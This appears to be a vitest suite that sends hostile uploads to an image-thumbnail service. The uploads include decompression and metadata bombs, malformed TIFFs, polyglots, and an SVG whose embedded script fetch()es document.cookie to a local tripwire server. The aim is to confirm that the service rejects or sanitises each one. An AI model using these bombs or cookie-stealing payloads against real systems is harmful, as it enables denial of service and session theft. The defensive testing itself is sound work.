// Over 400 lines on purpose: every hostile input against one running service, with the same after-checks (up, nothing
// half-stored) for each.

/**
 * Hostile input through a real `thumbsmith start` process: every case of issue 3 gets the right 4xx at upload when
 * its header tells, or ends `failed` with a stable code when only decoding tells. After each: the process is up
 * (`/healthz` 200), nothing is half-stored (a rejected upload leaves no row, blob or temp file; a failed job leaves no
 * variant blob) and no job outlives JOB_TIMEOUT_MS (polling is bounded by it).
 */
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  iccpChunk,
  itxtChunk,
  jpegScanBomb,
  manyTextChunks,
  webpChunk,
  withGifComments,
  withJpegSegments,
  withPngChunks,
  withTiffPages,
  withWebpChunks,
  ztxtBomb,
  ztxtChunk,
} from '../support/bombs.js';
import { download, type ImageJson, upload, waitForFinal } from '../support/http.js';
import {
  colourDistance,
  gifDeclaring,
  gifWithFrames,
  makeAnimatedGif,
  makeBmp,
  makeGif,
  makeJpeg,
  makePng,
  makeSvg,
  makeTiff,
  makeWebp,
  mp4Header,
  pixelAt,
  pngBomb,
  pngDeclaring,
  QUADRANT_COLOURS,
  readHeicFixture,
  type TiffEntry,
  tiffPixelOffset,
  tiffWithEntries,
} from '../support/images.js';
import { removeDataDir, type ServiceProcess, startService } from '../support/service-process.js';
import { quietPeriod } from '../support/wait.js';
import { cpuTicks, expectProblem, healthStatus, peakRssBytes, storedState, variantFiles } from './service-probes.js';

const JOB_TIMEOUT_MS = 15_000;
/** Polling stops this long after the job time limit: a job still running then is a hang. */
const POLL_MS = JOB_TIMEOUT_MS + 15_000;

let service: ServiceProcess;
let svgService: ServiceProcess;
let slowService: ServiceProcess;
let killService: ServiceProcess;
let bombService: ServiceProcess;
/** Counts every request that reaches it: an SVG that made the renderer fetch anything would show up here. */
let tripwire: Server;
let tripwireHits: string[];

beforeAll(async () => {
  tripwireHits = [];
  tripwire = createServer((request, response) => {
    tripwireHits.push(`${request.method} ${request.url}`);
    response.end();
  });
  await new Promise<void>((resolve) => tripwire.listen(0, '127.0.0.1', resolve));
  // The other services start in their own describe blocks: on a loaded 2-core machine, four processes starting
  // at once can take longer than a start-up is allowed.
  service = await startService({ env: { JOB_TIMEOUT_MS: String(JOB_TIMEOUT_MS) } });
});

afterAll(async () => {
  for (const s of [service, svgService, slowService, killService, bombService]) {
    if (!s) continue;
    await s.stop();
    await removeDataDir(s.dataDir);
  }
  await new Promise((resolve) => tripwire?.close(resolve));
});

/** What an upload must come to. */
type Answer =
  | { readonly rejected: readonly [status: number, code: string] }
  | { readonly failed: string }
  | { readonly done: (image: ImageJson, target: ServiceProcess) => Promise<void> };

interface HostileCase {
  readonly name: string;
  readonly filename: string;
  readonly contentType?: string;
  readonly make: () => Buffer | Promise<Buffer>;
  readonly answer: Answer;
}

async function expectAlive(target: ServiceProcess): Promise<void> {
  expect(target.child.exitCode, 'the service process exited').toBeNull();
  expect(await healthStatus(target.url)).toBe(200);
}

/** Uploads one case and checks its answer, what was stored and that the process is still serving. */
async function runCase(target: ServiceProcess, hostile: HostileCase): Promise<ImageJson | undefined> {
  const bytes = await hostile.make();
  const before = await storedState(target.dataDir);
  const response = await upload(target.url, bytes, {
    filename: hostile.filename,
    contentType: hostile.contentType ?? 'image/jpeg',
  });
  const { answer } = hostile;
  if ('rejected' in answer) {
    const [status, code] = answer.rejected;
    await expectProblem(response, status, code);
    // Nothing half-stored: no new row, no new blob, no temp file.
    expect(await storedState(target.dataDir)).toEqual({ ...before, temp: [] });
    await expectAlive(target);
    return undefined;
  }
  const accepted = (await response.json()) as ImageJson;
  expect(response.status, JSON.stringify(accepted)).toBe(202);
  const image = await waitForFinal(target.url, accepted.id, POLL_MS);
  if ('failed' in answer) {
    expect({ status: image.status, code: image.error?.code }).toEqual({ status: 'failed', code: answer.failed });
    // A stable, client-safe message: no server paths.
    expect(image.error?.message).not.toContain(target.dataDir);
    expect(image.variants).toEqual([]);
    expect(await variantFiles(target.dataDir, image)).toEqual([]);
    const thumbnail = await download(target.url, image.id, 'small');
    await expectProblem(thumbnail, 409, 'TS_IMAGE_FAILED');
  } else {
    expect({ status: image.status, error: image.error }).toEqual({ status: 'done', error: null });
    // The probe that proves "no variant blob" for failed jobs does see the variants of done ones.
    expect(await variantFiles(target.dataDir, image)).toHaveLength(image.variants.length);
    await answer.done(image, target);
  }
  expect((await storedState(target.dataDir)).temp).toEqual([]);
  await expectAlive(target);
  return image;
}

/** The three default presets of a `width`x`height` upright source (fit inside, never enlarged). */
function defaultSizes(width: number, height: number): Array<[string, number, number]> {
  return [150, 400, 800].map((box, i) => {
    const scale = Math.min(1, box / Math.max(width, height));
    return [['small', 'medium', 'large'][i]!, Math.round(width * scale), Math.round(height * scale)];
  });
}

/** `done` with the default presets at the expected sizes, in `format`, and the original recorded as `original`. */
function renders(original: { format: string; width: number; height: number }, format = 'jpeg') {
  return async (image: ImageJson, target: ServiceProcess) => {
    expect(image.original).toMatchObject(original);
    const expected = defaultSizes(original.width, original.height);
    expect(image.variants.map((v) => [v.preset, v.width, v.height, v.format])).toEqual(
      expected.map(([preset, w, h]) => [preset, w, h, format]),
    );
    const response = await download(target.url, image.id, 'small');
    expect(response.status).toBe(200);
    const metadata = await sharp(Buffer.from(await response.arrayBuffer())).metadata();
    expect([metadata.format, metadata.width, metadata.height]).toEqual([format, expected[0]![1], expected[0]![2]]);
  };
}

/** Downloads the small thumbnail and checks the centre of each quadrant (proves the decoder got the pixels right). */
async function expectQuadrants(image: ImageJson, target: ServiceProcess): Promise<void> {
  const small = Buffer.from(await (await download(target.url, image.id, 'small')).arrayBuffer());
  const { width = 0, height = 0 } = await sharp(small).metadata();
  const probes: Array<[number, number, readonly number[]]> = [
    [width / 4, height / 4, QUADRANT_COLOURS.topLeft],
    [(3 * width) / 4, height / 4, QUADRANT_COLOURS.topRight],
    [width / 4, (3 * height) / 4, QUADRANT_COLOURS.bottomLeft],
    [(3 * width) / 4, (3 * height) / 4, QUADRANT_COLOURS.bottomRight],
  ];
  for (const [x, y, colour] of probes) {
    const actual = await pixelAt(small, Math.floor(x), Math.floor(y));
    expect(colourDistance(actual, colour), `${x},${y} is ${actual}`).toBeLessThanOrEqual(12);
  }
}

const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>\n');
const jpeg300 = () => makeJpeg({ width: 300, height: 200 });
const png300 = () => makePng({ width: 300, height: 200 });
const cut = (bytes: Buffer, fraction: number) => bytes.subarray(0, Math.floor(bytes.length * fraction));

/** A RIFF/AVI header: a video container, not an image. */
function aviHeader(): Buffer {
  const file = Buffer.alloc(64);
  file.write('RIFF', 0, 'latin1');
  file.writeUInt32LE(56, 4);
  file.write('AVI LIST', 8, 'latin1');
  return file;
}

/** A baseline 8x8 greyscale TIFF written by hand; `change` rewrites one tag's value. */
const TIFF_ENTRIES: readonly TiffEntry[] = [
  [256, 4, 1, 8], // ImageWidth
  [257, 4, 1, 8], // ImageLength
  [258, 3, 1, 8], // BitsPerSample
  [259, 3, 1, 1], // Compression: none
  [262, 3, 1, 1], // PhotometricInterpretation: min-is-black
  [273, 4, 1, tiffPixelOffset(9)], // StripOffsets
  [277, 3, 1, 1], // SamplesPerPixel
  [278, 4, 1, 8], // RowsPerStrip
  [279, 4, 1, 64], // StripByteCounts
];
function tiff(changes: Record<number, number> = {}): Buffer {
  return tiffWithEntries(
    TIFF_ENTRIES.map(([tag, type, count, value]) => [tag, type, count, changes[tag] ?? value] as const),
  );
}
function tiffPatched(patch: (file: Buffer) => void): () => Buffer {
  return () => {
    const file = tiff();
    patch(file);
    return file;
  };
}
const tiff8x8 = renders({ format: 'tiff', width: 8, height: 8 });

const CASES: readonly HostileCase[] = [
  // Not an image at all: told by the first bytes.
  {
    name: 'zero bytes',
    filename: 'empty.jpg',
    make: () => Buffer.alloc(0),
    answer: { rejected: [415, 'TS_UNSUPPORTED_MEDIA'] },
  },
  {
    name: 'plain text renamed .jpg',
    filename: 'notes.jpg',
    make: () => Buffer.from('Dear diary, today I uploaded a text file.\n'.repeat(20)),
    answer: { rejected: [415, 'TS_UNSUPPORTED_MEDIA'] },
  },
  {
    name: 'HTML renamed .jpg',
    filename: 'page.jpg',
    make: () => HTML,
    answer: { rejected: [415, 'TS_UNSUPPORTED_MEDIA'] },
  },
  {
    name: 'HTML/JPEG polyglot, HTML first',
    filename: 'polyglot.jpg',
    make: async () => Buffer.concat([HTML, await jpeg300()]),
    answer: { rejected: [415, 'TS_UNSUPPORTED_MEDIA'] },
  },
  {
    name: 'HTML/JPEG polyglot, JPEG first (HTML trailing)',
    filename: 'polyglot.html',
    contentType: 'text/html',
    make: async () => Buffer.concat([await jpeg300(), HTML]),
    answer: { done: renders({ format: 'jpeg', width: 300, height: 200 }) },
  },
  {
    name: 'MP4 renamed .jpg',
    filename: 'clip.jpg',
    make: mp4Header,
    answer: { rejected: [415, 'TS_UNSUPPORTED_MEDIA'] },
  },
  {
    name: 'AVI renamed .jpg',
    filename: 'clip2.jpg',
    make: aviHeader,
    answer: { rejected: [415, 'TS_UNSUPPORTED_MEDIA'] },
  },
  // Truncated files: the header tells when it is cut; otherwise only decoding does.
  {
    name: 'JPEG truncated inside its header',
    filename: 'cut.jpg',
    make: async () => (await jpeg300()).subarray(0, 100),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'JPEG truncated inside its scan data',
    filename: 'cut.jpg',
    make: async () => cut(await jpeg300(), 0.6),
    answer: { failed: 'TS_IMAGE_CORRUPT' },
  },
  {
    name: 'PNG truncated inside its header',
    filename: 'cut.png',
    make: async () => (await png300()).subarray(0, 20),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'PNG truncated inside its pixel data',
    filename: 'cut.png',
    make: async () => cut(await png300(), 0.6),
    answer: { failed: 'TS_IMAGE_CORRUPT' },
  },
  {
    name: 'GIF truncated inside its only frame',
    filename: 'cut.gif',
    make: async () => cut(await makeGif({ width: 300, height: 200 }), 0.6),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'animated GIF missing its trailer (whole first frame)',
    filename: 'cut-anim.gif',
    make: async () => {
      const gif = await makeAnimatedGif();
      return gif.subarray(0, gif.length - 1);
    },
    answer: { done: renders({ format: 'gif', width: 200, height: 120 }) },
  },
  // Pixel floods and bombs: refused from the header, before a pixel is decoded.
  {
    name: 'PNG declaring 100000x100000 (pixel flood)',
    filename: 'flood.png',
    make: () => pngDeclaring(100_000, 100_000),
    answer: { rejected: [422, 'TS_IMAGE_TOO_MANY_PIXELS'] },
  },
  {
    name: 'GIF declaring 65535x65535 (pixel flood)',
    filename: 'flood.gif',
    make: () => gifDeclaring(65_535, 65_535),
    answer: { rejected: [422, 'TS_IMAGE_TOO_MANY_PIXELS'] },
  },
  {
    name: 'PNG decompression bomb (48 KB file, 400 megapixels)',
    filename: 'bomb.png',
    make: () => pngBomb(20_000, 20_000),
    answer: { rejected: [422, 'TS_IMAGE_TOO_MANY_PIXELS'] },
  },
  {
    name: 'PNG bomb just under the pixel limit (6 KB file, 49 megapixels) renders in bounded memory',
    filename: 'small-bomb.png',
    make: () => pngBomb(7_000, 7_000),
    answer: { done: renders({ format: 'png', width: 7_000, height: 7_000 }) },
  },
  {
    name: 'animated GIF with 5000 frames',
    filename: 'frames.gif',
    make: () => gifWithFrames(5_000),
    answer: { rejected: [422, 'TS_IMAGE_TOO_MANY_FRAMES'] },
  },
  // TIFF with absurd tags: each answer is what the header or libtiff says; none crashes.
  { name: 'TIFF baseline (control)', filename: 'ok.tif', make: () => tiff(), answer: { done: tiff8x8 } },
  {
    name: 'TIFF with width 0',
    filename: 'a.tif',
    make: () => tiff({ 256: 0 }),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'TIFF declaring 4e9 x 4e9',
    filename: 'a.tif',
    make: () => tiff({ 256: 4e9, 257: 4e9 }),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'TIFF declaring 60000x60000',
    filename: 'a.tif',
    make: () => tiff({ 256: 60_000, 257: 60_000 }),
    answer: { rejected: [422, 'TS_IMAGE_TOO_MANY_PIXELS'] },
  },
  {
    name: 'TIFF with 999 bits per sample',
    filename: 'a.tif',
    make: () => tiff({ 258: 999 }),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'TIFF with 65535 samples per pixel',
    filename: 'a.tif',
    make: () => tiff({ 277: 65_535 }),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'TIFF with 0 rows per strip',
    filename: 'a.tif',
    make: () => tiff({ 278: 0 }),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'TIFF whose first IFD is beyond the end of the file',
    filename: 'a.tif',
    make: tiffPatched((file) => file.writeUInt32LE(0x7fff_fff0, 4)),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'TIFF whose IFD claims 65535 entries',
    filename: 'a.tif',
    make: tiffPatched((file) => file.writeUInt16LE(65_535, 8)),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'TIFF with an unknown compression scheme',
    filename: 'a.tif',
    make: () => tiff({ 259: 9_999 }),
    answer: { failed: 'TS_IMAGE_CORRUPT' },
  },
  {
    name: 'TIFF with an unknown photometric interpretation',
    filename: 'a.tif',
    make: () => tiff({ 262: 99 }),
    answer: { failed: 'TS_IMAGE_CORRUPT' },
  },
  {
    name: 'TIFF whose strip starts 2 GB past the end of the file',
    filename: 'a.tif',
    make: () => tiff({ 273: 0x7fff_ffff }),
    answer: { failed: 'TS_IMAGE_CORRUPT' },
  },
  {
    name: 'TIFF whose strip byte count is 2 GB (libtiff reads what is there)',
    filename: 'a.tif',
    make: () => tiff({ 279: 0x7fff_ffff }),
    answer: { done: tiff8x8 },
  },
  {
    name: 'TIFF whose IFD links to itself (libtiff detects the loop)',
    filename: 'a.tif',
    make: tiffPatched((file) => file.writeUInt32LE(8, 10 + TIFF_ENTRIES.length * 12)),
    answer: { done: tiff8x8 },
  },
  // The name and declared type are ignored: the bytes decide.
  {
    name: 'PNG named .jpg and sent as image/jpeg',
    filename: 'photo.jpg',
    contentType: 'image/jpeg',
    make: png300,
    answer: {
      done: async (image, target) => {
        await renders({ format: 'png', width: 300, height: 200 })(image, target);
        await expectQuadrants(image, target);
      },
    },
  },
  {
    name: 'JPEG named .gif and sent as image/gif',
    filename: 'anim.gif',
    contentType: 'image/gif',
    make: jpeg300,
    answer: { done: renders({ format: 'jpeg', width: 300, height: 200 }) },
  },
  // SVG is refused unless configured.
  {
    name: 'SVG with a script (SVG disabled by default)',
    filename: 'logo.png',
    contentType: 'image/png',
    make: () => makeSvg({ extra: '<script>alert(1)</script>' }),
    answer: { rejected: [415, 'TS_SVG_DISABLED'] },
  },
  // Formats libvips lacks here go through their own decoders end to end.
  {
    name: 'BMP (decoded by bmp-ts)',
    filename: 'scan.bmp',
    contentType: 'image/bmp',
    make: () => makeBmp({ width: 300, height: 200 }),
    answer: {
      done: async (image, target) => {
        await renders({ format: 'bmp', width: 300, height: 200 })(image, target);
        await expectQuadrants(image, target);
      },
    },
  },
  {
    name: 'HEIC from a phone (decoded by libheif wasm)',
    filename: 'IMG_0001.HEIC',
    contentType: 'image/heic',
    make: () => readHeicFixture('quadrants'),
    answer: {
      done: async (image, target) => {
        await renders({ format: 'heif', width: 320, height: 240 })(image, target);
        await expectQuadrants(image, target);
      },
    },
  },
];

describe('hostile uploads to a real `thumbsmith start`: the right answer, nothing half-stored, still serving', () => {
  for (const hostile of CASES) {
    const { answer } = hostile;
    const expected =
      'rejected' in answer
        ? `${answer.rejected[0]} ${answer.rejected[1]} at upload`
        : 'failed' in answer
          ? `failed ${answer.failed}`
          : 'done';
    it(`${hostile.name} -> ${expected}`, async () => {
      await runCase(service, hostile);
    });
  }

  it('after every case: the process never restarted and its rows are exactly the accepted uploads', async () => {
    await expectAlive(service);
    const state = await storedState(service.dataDir);
    expect(state.temp).toEqual([]);
    const accepted = CASES.filter((c) => !('rejected' in c.answer)).length;
    expect(state.rows).toHaveLength(accepted);
    expect(service.logs.filter((line) => line.msg === 'thumbsmith listening')).toHaveLength(1);
  });
});

const MiB = 1024 ** 2;
/** A PNG with an extra chunk header right after IHDR whose length runs far past the end of the file. */
async function pngWithLyingChunk(type: string): Promise<Buffer> {
  const png = await png300();
  const header = Buffer.alloc(8);
  header.writeUInt32BE(0x7fff_fff0);
  header.write(type, 4, 'latin1');
  return Buffer.concat([png.subarray(0, 33), header, Buffer.from('Comment\0\0', 'latin1'), png.subarray(33)]);
}

/** Small files that demand large work from a decoder (issue 13): refused at upload, before any decoder runs. */
const STRUCTURAL_BOMBS: readonly HostileCase[] = [
  {
    name: 'PNG metadata bomb: 300 zTXt chunks inflating to 20 MiB each (6 MB file)',
    filename: 'ztxt.png',
    contentType: 'image/png',
    make: async () => ztxtBomb(await png300()),
    answer: { rejected: [422, 'TS_IMAGE_METADATA_TOO_LARGE'] },
  },
  {
    name: 'PNG whose iCCP profile inflates to 64 MiB (65 KB of it in the file)',
    filename: 'iccp.png',
    contentType: 'image/png',
    make: async () => withPngChunks(await png300(), [iccpChunk(64 * MiB)]),
    answer: { rejected: [422, 'TS_IMAGE_METADATA_TOO_LARGE'] },
  },
  {
    name: 'PNG with a compressed iTXt inflating to 32 MiB',
    filename: 'itxt.png',
    contentType: 'image/png',
    make: async () => withPngChunks(await png300(), [itxtChunk(32 * MiB)]),
    answer: { rejected: [422, 'TS_IMAGE_METADATA_TOO_LARGE'] },
  },
  {
    name: 'PNG with 100000 tiny tEXt chunks',
    filename: 'chunks.png',
    contentType: 'image/png',
    make: async () => manyTextChunks(await png300(), 100_000),
    answer: { rejected: [422, 'TS_IMAGE_TOO_COMPLEX'] },
  },
  {
    name: 'PNG whose zTXt declares 2 GB (a lying length)',
    filename: 'lying.png',
    contentType: 'image/png',
    make: () => pngWithLyingChunk('zTXt'),
    answer: { rejected: [422, 'TS_IMAGE_METADATA_TOO_LARGE'] },
  },
  {
    name: 'PNG whose private chunk declares 2 GB (the walk stops; the decoder finds the damage)',
    filename: 'lying.png',
    contentType: 'image/png',
    make: () => pngWithLyingChunk('prVt'),
    answer: { rejected: [422, 'TS_IMAGE_CORRUPT'] },
  },
  {
    name: 'progressive JPEG CPU bomb: valid 7000x7000 with 2647 scans (530 KB)',
    filename: 'scans.jpg',
    make: () => jpegScanBomb(),
    answer: { rejected: [422, 'TS_IMAGE_TOO_COMPLEX'] },
  },
  {
    name: 'JPEG with 100000 empty comment segments',
    filename: 'comments.jpg',
    make: async () => withJpegSegments(await jpeg300(), 100_000, 0),
    answer: { rejected: [422, 'TS_IMAGE_TOO_COMPLEX'] },
  },
  {
    name: 'JPEG with 12 MB of APP1 segments',
    filename: 'app1.jpg',
    make: async () => withJpegSegments(await jpeg300(), 200, 60_000, 0xe1),
    answer: { rejected: [422, 'TS_IMAGE_METADATA_TOO_LARGE'] },
  },
  {
    name: 'GIF with 100000 comment extensions',
    filename: 'comments.gif',
    contentType: 'image/gif',
    make: async () => withGifComments(await makeGif({ width: 300, height: 200 }), 100_000, 1),
    answer: { rejected: [422, 'TS_IMAGE_TOO_COMPLEX'] },
  },
  {
    name: 'WebP with a 9 MiB EXIF chunk',
    filename: 'exif.webp',
    contentType: 'image/webp',
    make: async () =>
      withWebpChunks(await makeWebp({ width: 300, height: 200 }), [webpChunk('EXIF', Buffer.alloc(9 * MiB))]),
    answer: { rejected: [422, 'TS_IMAGE_METADATA_TOO_LARGE'] },
  },
  {
    name: 'TIFF with 100000 chained pages (18 MB; seconds of libtiff counting)',
    filename: 'pages.tif',
    contentType: 'image/tiff',
    make: async () => withTiffPages(await makeTiff({ width: 8, height: 8, compression: 'none' }), 100_000),
    answer: { rejected: [422, 'TS_IMAGE_TOO_MANY_FRAMES'] },
  },
  {
    name: 'PNG with ordinary metadata (control: 1 MiB zTXt, ICC, EXIF, XMP)',
    filename: 'meta.png',
    contentType: 'image/png',
    make: async () => withPngChunks(await makePng({ width: 300, height: 200, metadata: true }), [ztxtChunk(MiB)]),
    answer: { done: renders({ format: 'png', width: 300, height: 200 }) },
  },
];

describe('structural bombs (issue 13): refused at upload before any decoder, in little memory and CPU', () => {
  beforeAll(async () => {
    bombService = await startService({ env: { JOB_TIMEOUT_MS: String(JOB_TIMEOUT_MS) } });
  });

  for (const bomb of STRUCTURAL_BOMBS) {
    const { answer } = bomb;
    const expected = 'rejected' in answer ? `${answer.rejected[0]} ${answer.rejected[1]} at upload` : 'done';
    it(`${bomb.name} -> ${expected}`, async () => {
      await runCase(bombService, bomb);
    });
  }

  it("the process stayed up, stored only the control image, and its peak memory stayed far from the bombs' sizes", async () => {
    await expectAlive(bombService);
    expect((await storedState(bombService.dataDir)).rows).toHaveLength(1);
    const pid = bombService.child.pid!;
    const peak = peakRssBytes(pid);
    console.log(
      `structural bombs: peak RSS (VmHWM) ${(peak / MiB).toFixed(0)} MiB, ` +
        `CPU ${(cpuTicks(pid) / 100).toFixed(1)} s since start (start-up included)`,
    );
    // A generous safety bound, not a target: without the walk the zTXt bomb alone takes gigabytes.
    expect(peak).toBeLessThan(1024 ** 3);
  });
});

describe('SVG when enabled (ALLOW_SVG=true): sanitised, then rasterised', () => {
  beforeAll(async () => {
    svgService = await startService({ env: { ALLOW_SVG: 'true', JOB_TIMEOUT_MS: String(JOB_TIMEOUT_MS) } });
  });

  it('an SVG with scripts, handlers and external references renders, and nothing runs or is fetched', async () => {
    const base = `http://127.0.0.1:${(tripwire.address() as AddressInfo).port}`;
    const extra = [
      `<script>fetch("${base}/script?" + document.cookie)</script>`,
      `<rect width="10" height="10" fill="rgb(220,40,40)" onload="fetch('${base}/onload')"/>`,
      `<image href="${base}/image.png" x="0" y="0" width="300" height="200"/>`,
      `<style>@import url("${base}/style.css");</style>`,
      `<use href="${base}/sprite.svg#icon"/>`,
    ].join('');
    let rendered: ImageJson | undefined;
    await runCase(svgService, {
      name: 'svg',
      filename: 'logo.svg',
      contentType: 'image/svg+xml',
      make: () => makeSvg({ width: 300, height: 200, extra }),
      answer: {
        done: async (image) => {
          rendered = image;
        },
      },
    });
    expect(rendered?.original).toMatchObject({ format: 'svg', width: 300, height: 200 });
    expect(rendered?.variants.map((v) => [v.preset, v.width, v.height])).toEqual([
      ['small', 150, 100],
      ['medium', 300, 200],
      ['large', 300, 200],
    ]);
    for (const variant of rendered?.variants ?? []) {
      const bytes = Buffer.from(await (await download(svgService.url, rendered!.id, variant.preset)).arrayBuffer());
      const metadata = await sharp(bytes).metadata();
      expect(['jpeg', 'webp']).toContain(metadata.format);
      for (const text of ['<script', 'alert', 'fetch(', '127.0.0.1', '<svg']) {
        expect(bytes.includes(text), `${variant.preset} contains ${text}`).toBe(false);
      }
      // The drawing itself survived: left half red, right half green.
      const { width = 0, height = 0 } = metadata;
      expect(
        colourDistance(await pixelAt(bytes, Math.floor(width / 4), Math.floor(height / 2)), [220, 40, 40]),
      ).toBeLessThanOrEqual(12);
      expect(
        colourDistance(await pixelAt(bytes, Math.floor((3 * width) / 4), Math.floor(height / 2)), [40, 180, 60]),
      ).toBeLessThanOrEqual(12);
    }
    expect(tripwireHits).toEqual([]);
  });

  it('a non-SVG upload still works on the same service', async () => {
    await runCase(svgService, {
      name: 'png',
      filename: 'x.png',
      make: png300,
      answer: { done: renders({ format: 'png', width: 300, height: 200 }) },
    });
  });
});

/**
 * Bounded: looks for one quiet second (< 30% of a core) within 4 s of a job's failure. Work that outlived its job
 * (an encode nobody stopped) keeps the process busy for longer.
 */
async function expectIdleSoon(target: ServiceProcess, image: ImageJson | undefined): Promise<void> {
  const failedAt = Date.now();
  const pid = target.child.pid!;
  let quiet = false;
  let lastWindow = Number.NaN;
  while (!quiet && Date.now() - failedAt < 4_000) {
    const before = cpuTicks(pid);
    await quietPeriod(1_000);
    lastWindow = cpuTicks(pid) - before;
    quiet = lastWindow < 30;
  }
  console.log(
    `time limit: failed "${image?.error?.message}"; idle ${Date.now() - failedAt} ms after the failure ` +
      `(last 1 s window: ${lastWindow} CPU ticks)`,
  );
  expect(quiet, `still busy: ${lastWindow} ticks in the last second`).toBe(true);
  // The render ran in an imaging child process: the one that ran out of time was killed, so nothing works on.
  const killed = target.logs
    .filter((line) => line.msg === 'imaging child killed: over budget' && line.code === 'TS_RENDER_TIMEOUT')
    .map((line) => Number(line.pid));
  expect(killed.length).toBeGreaterThan(0);
  expect(killed.filter((child) => existsSync(`/proc/${child}`))).toEqual([]);
}

describe('per-job time limit', () => {
  beforeAll(async () => {
    const heavyPresets = JSON.stringify([
      { name: 'small', width: 150 },
      { name: 'poster', width: 4096, format: 'webp', effort: 6, enlarge: true },
    ]);
    // One after the other, each assigned at once, so that afterAll stops whichever did start.
    // 100 ms per job (the smallest JOB_TIMEOUT_MS allowed) and one heavy preset whose encode alone takes seconds.
    slowService = await startService({
      env: { JOB_TIMEOUT_MS: '100', WORKER_CONCURRENCY: '1', IMAGING_THREADS: '1', PRESETS: heavyPresets },
    });
    // 1.5 s: enough to reach the encode even on a loaded machine, far less than the encode needs.
    killService = await startService({
      env: { JOB_TIMEOUT_MS: '1500', WORKER_CONCURRENCY: '1', IMAGING_THREADS: '1', PRESETS: heavyPresets },
    });
  });

  it('JOB_TIMEOUT_MS=100: a large image (7000x7000, 49 MP) ends failed TS_RENDER_TIMEOUT, with nothing stored', async () => {
    await runCase(slowService, {
      name: 'large',
      filename: 'large.png',
      make: () =>
        sharp({ create: { width: 7_000, height: 7_000, channels: 3, background: '#a05020' } })
          .png({ progressive: true, compressionLevel: 9 })
          .toBuffer(),
      answer: { failed: 'TS_RENDER_TIMEOUT' },
    });
  });

  it('JOB_TIMEOUT_MS=1500 inside a long encode: the job fails on time and its child process is killed (all goes idle)', async () => {
    // 2048x2048 noise decodes in a moment; its 4096 px WebP at effort 6 takes several CPU-seconds to encode, so the
    // deadline falls inside the encode. Without libvips' own timeout the orphaned encode would keep a core busy.
    const noise = await sharp({
      create: {
        width: 2048,
        height: 2048,
        channels: 3,
        background: '#000',
        noise: { type: 'gaussian', mean: 128, sigma: 40 },
      },
    })
      .jpeg({ quality: 95 })
      .toBuffer();
    const image = await runCase(killService, {
      name: 'noise',
      filename: 'noise.jpg',
      make: () => noise,
      answer: { failed: 'TS_RENDER_TIMEOUT' },
    });
    expect(image?.error?.message).toMatch(/during encode "poster"/);
    await expectIdleSoon(killService, image);
    await expectAlive(killService);
  });

  it('JOB_TIMEOUT_MS=100: a 49 MP palette BMP (seconds of JS decoding) fails TS_RENDER_TIMEOUT, the process goes idle', async () => {
    const image = await runCase(slowService, {
      name: 'bmp',
      filename: 'scan.bmp',
      make: () => flatBmp8(7_000, 7_000),
      answer: { failed: 'TS_RENDER_TIMEOUT' },
    });
    await expectIdleSoon(slowService, image);
    await expectAlive(slowService);
  });
});

/** An 8-bit palette BMP of one colour, written directly (fast even at tens of megapixels). */
function flatBmp8(width: number, height: number): Buffer {
  const rowBytes = Math.ceil(width / 4) * 4;
  const dataOffset = 14 + 40 + 2 * 4;
  const file = Buffer.alloc(dataOffset + rowBytes * height);
  file.write('BM', 0, 'latin1');
  file.writeUInt32LE(file.length, 2);
  file.writeUInt32LE(dataOffset, 10);
  file.writeUInt32LE(40, 14);
  file.writeInt32LE(width, 18);
  file.writeInt32LE(height, 22);
  file.writeUInt16LE(1, 26);
  file.writeUInt16LE(8, 28);
  file.writeUInt32LE(2, 46);
  return file;
}
